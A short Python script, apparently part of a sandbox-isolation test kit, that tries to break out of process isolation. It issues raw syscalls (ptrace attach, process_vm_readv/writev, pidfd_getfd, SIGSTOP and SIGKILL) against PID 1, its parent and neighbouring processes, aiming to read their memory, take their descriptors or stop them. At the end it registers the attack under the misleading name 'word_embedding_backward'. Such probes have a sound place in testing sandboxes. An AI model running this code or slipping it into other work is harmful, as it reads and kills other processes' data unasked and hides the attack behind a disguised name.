"""Hope: another process can be traced, read, stopped or robbed of a descriptor."""

import ctypes
import os

from a3 import kit

GOAL = "read"
ROUTE = "processes"
SCORE = 25


def attack():
    """Reach for the parent, the first process and the neighbours by every call that reaches processes."""
    held = ctypes.create_string_buffer(4096)
    here = os.getpid()
    for pid in (1, os.getppid(), here - 1, here - 2, here + 1):
        for request in (16, 0x4206):
            kit.attempt(kit.call, 101, request, pid, 0, 0)
        kit.attempt(kit.call, 310, pid, held, 1, held, 1, 0)
        kit.attempt(kit.call, 311, pid, held, 1, held, 1, 0)
        kit.attempt(kit.call, 312, here, pid, 0, 0, 0)
        opened = kit.attempt(kit.call, 434, pid, 0)
        for fd in range(12):
            kit.attempt(kit.call, 438, opened or 3, fd, 0)
        kit.attempt(kit.call, 302, pid, 0, held, 0)
        kit.attempt(kit.call, 203, pid, 8, held)
        kit.attempt(kit.call, 141, 0, pid, 19)
        kit.attempt(kit.call, 129, pid, 9, held)
    kit.attempt(kit.call, 312, here, here, 0, 3, 3)


word_embedding_backward = kit.mount(attack)
